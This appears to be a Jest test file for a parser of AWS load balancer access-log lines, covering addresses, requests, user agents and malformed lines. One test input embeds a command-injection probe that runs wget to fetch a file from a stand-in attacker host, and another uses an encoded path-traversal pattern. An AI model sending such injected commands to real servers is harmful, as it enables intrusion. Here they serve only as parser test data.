import { describe, expect, it } from "@jest/globals";
import { alb } from "../../../src/logs/formats/alb.ts";
import { albLine } from "../../support/log-lines.ts";

describe("the patient reader of ALB lines", () => {
  it("reads every field of an ordinary line", () => {
    expect(alb.read(albLine({ createdAt: "2026-10-01T12:00:00.125000Z" }))).toEqual({
      arrivalMs: Date.UTC(2026, 9, 1, 12, 0, 0, 125),
      ip: "198.51.100.14",
      method: "GET",
      target: "https://shop.example:443/products/7",
      host: null,
      status: 200,
      bytes: 2048,
      userAgent: "curl/8.5.0",
      referer: null,
    });
  });

  it.each([
    ["198.51.100.14:4711", "198.51.100.14"],
    ["2001:db8:0:1:bcf4:5264:e01c:f215:50718", "2001:db8:0:1:bcf4:5264:e01c:f215"],
    ["2001:db8::7:50718", "2001:db8::7"],
    ["[2001:db8::7]:443", "2001:db8::7"],
    ["-", null],
  ])("takes the address from %s", (client, ip) => {
    expect(alb.read(albLine({ client }))?.ip).toBe(ip);
  });

  it.each([
    ["GET http://h:80/shell?cd+/tmp;wget+ evil.example/x HTTP/1.1", "GET", "http://h:80/shell"],
    ["GET http://h:80/a b c HTTP/1.1", "GET", "http://h:80/a b c"],
    ["GET https://h:443/%%32%65/ HTTP/1.1", "GET", "https://h:443/%%32%65/"],
    ['GET https://h:443/say"hi" HTTP/1.1', "GET", 'https://h:443/say"hi"'],
    ["- - - ", null, null],
    ["- http://internal.example:80-/ ", null, null],
    ["", null, null],
  ])("reads the request %s", (request, method, target) => {
    expect(alb.read(albLine({ request }))).toMatchObject({ method, target });
  });

  it.each([['say \\"hi\\"'], ['a " b'], ['" "'], ["ends in a backslash\\"]])(
    "keeps the user agent %s whole",
    (userAgent) => {
      expect(alb.read(albLine({ userAgent }))).toMatchObject({
        userAgent,
        arrivalMs: Date.UTC(2026, 9, 1, 12, 0, 0, 500),
      });
    },
  );

  it("knows no number where the log has a dash", () => {
    expect(alb.read(albLine({ status: "-", bytes: "-" }))).toMatchObject({ status: null, bytes: null });
    expect(alb.read(albLine({ status: "-1", bytes: "-1" }))).toMatchObject({ status: null, bytes: null });
  });

  it("takes the time of the answer where the line is too old, or cut, to hold the time of arrival", () => {
    const line = albLine({ at: "2026-10-01T12:00:00.500000Z", createdAt: "2026-10-01T11:59:00.000000Z" });

    expect(alb.read(line)?.arrivalMs).toBe(Date.UTC(2026, 9, 1, 11, 59));
    expect(alb.read(line.slice(0, line.indexOf(" 1 2026")))?.arrivalMs).toBe(Date.UTC(2026, 9, 1, 12, 0, 0, 500));
  });

  it("reads lines of 12 fields and of 40", () => {
    const [head] = albLine().split(' "');

    expect(alb.read(head ?? "")).toMatchObject({ ip: "198.51.100.14", status: 200, bytes: 2048, method: null });
    expect(alb.read(`${albLine()} "a" "b" c d "e"`)).toMatchObject({ ip: "198.51.100.14", userAgent: "curl/8.5.0" });
  });

  it.each([
    "",
    "#",
    "Enable AccessLog for ELB: my-alb at 2026-09-30T10:00:00.000Z",
    '198.51.100.7 - - [01/Oct/2026:12:00:00 +0000] "GET / HTTP/1.1" 200 5 "-" "-"',
    "https 9026-10-01T12:00:00.5Z app/web/1 198.51.100.14:1 - -1 -1 -1 200 - 1 1",
  ])("takes %p for no request", (line) => {
    expect(alb.read(line)).toBeNull();
    expect(alb.recognises(line)).toBe(false);
  });
});
